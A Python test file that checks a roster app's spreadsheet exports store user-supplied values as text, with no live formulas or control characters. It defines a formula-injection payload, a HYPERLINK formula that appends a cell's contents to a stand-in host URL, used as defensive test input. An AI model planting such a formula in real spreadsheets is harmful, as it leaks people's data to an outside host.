"""Every workbook Kantor writes stores text as text: no live formula, no control character."""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from kantor_app.services.roster.export import export_workers_xlsx
from kantor_app.services.roster.query import RosterFilter, RosterSort
from kantor_app.services.spreadsheets.error_workbook import ErrorWorkbook
from kantor_app.services.spreadsheets.rejections import Rejection
from kantor_app.store.engine import Database
from kantor_app.store.models import Worker

LURE = '=HYPERLINK("http://contoh.invalid/?"&A2,"klik")'


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        return [
            name for name in book.namelist() if name.startswith("xl/worksheets/")
            and b"<f>" in book.read(name)
        ]  # fmt: skip


def test_the_rejected_rows_workbook_keeps_a_formula_lure_as_text(tmp_path: Path) -> None:
    book = ErrorWorkbook(["NIK", "Nama"], 2, text_columns={0})
    rejection = Rejection(row=2, column="A", code="nik_invalid", message="NIK tidak valid")
    book.add(["=1+1", LURE], rejection)
    book.add(["6472010101900001", "Siti\x07 Aminah"], rejection)
    out = book.save(tmp_path / "ditolak.xlsx")
    assert _formulas(out) == []
    rows = list(load_workbook(out).active.iter_rows(values_only=True))
    assert rows[1][:2] == ("=1+1", LURE)
    assert rows[2][1] == "Siti Aminah"  # the control character cannot be stored in xlsx


def test_the_roster_export_keeps_a_formula_lure_as_text(db: Database, tmp_path: Path) -> None:
    with db.transaction() as session:
        for nik, name, occupation in (
            ("6472014101900001", LURE, "Petani"),
            ("6472010101900002", "Budi Santoso", "Nelayan\x0b"),
        ):
            session.add(
                Worker(nik=nik, name=name, name_key=name.casefold(), occupation=occupation,
                       segment="BPU", status="aktif", source="test", device_id="t")
            )  # fmt: skip
    out = tmp_path / "ekspor.xlsx"
    assert export_workers_xlsx(db, RosterFilter(), RosterSort(), out) == 2
    assert _formulas(out) == []
    values = [r[1] for r in load_workbook(out).active.iter_rows(min_row=2, values_only=True)]
    assert LURE in values
